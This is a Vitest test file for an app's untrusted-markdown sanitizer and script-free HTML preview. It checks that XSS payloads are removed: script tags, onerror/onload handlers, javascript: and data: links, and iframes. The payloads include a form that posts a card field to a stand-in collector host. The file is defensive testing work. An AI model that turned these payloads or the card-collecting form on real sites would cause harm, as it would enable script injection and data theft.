// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { buildPreviewDocument, PREVIEW_CSP } from '../../src-renderer/safe/preview-document';
import { renderMarkdown, sanitizeHtml } from '../../src-renderer/safe/render-markdown';

describe('rendering untrusted markdown', () => {
  it('drops scripts, event handlers, javascript: links, forms and frames', () => {
    const html = renderMarkdown(
      [
        '# Title',
        '<script>alert(1)</script>',
        '<img src="x" onerror="alert(2)">',
        '[click](javascript:alert(3)) [mixed](JaVaScRiPt:alert(4))',
        '<form action="https://collector.invalid/steal"><input name="card"><button>Go</button></form>',
        '<iframe srcdoc="<script>alert(5)</script>"></iframe>',
        '<svg onload="alert(6)"><circle r="4"/></svg>',
        '<a href="data:text/html,<script>alert(7)</script>">data</a>',
      ].join('\n\n'),
    );
    expect(html).toContain('<h1>Title</h1>');
    expect(html).not.toMatch(/<script|onerror|onload|javascript:|<form|<input|<iframe|<svg|data:text/i);
  });

  it('keeps ordinary links, opening them outside the app without a referrer', () => {
    const html = renderMarkdown('[docs](https://example.com/docs)');
    expect(html).toContain('href="https://example.com/docs"');
    expect(html).toContain('target="_blank"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
  });

  it('does not load remote images (they would tell the site the page was read)', () => {
    const html = renderMarkdown('![Prize boat](http://127.0.0.1:9/beacon)');
    expect(html).not.toContain('<img');
    expect(html).toContain('[image: Prize boat]');
  });

  it('keeps inline data images', () => {
    expect(sanitizeHtml('<img src="data:image/png;base64,AAAA" alt="x">')).toContain('<img');
  });
});

describe('HTML preview document', () => {
  it('starts with a CSP that allows no scripts and no remote loads', () => {
    const doc = buildPreviewDocument('<script>alert(1)</script><p>hi</p>');
    expect(doc.indexOf('Content-Security-Policy')).toBeLessThan(doc.indexOf('<script>'));
    expect(PREVIEW_CSP).toContain("default-src 'none'");
    expect(PREVIEW_CSP).not.toContain('script-src');
  });
});
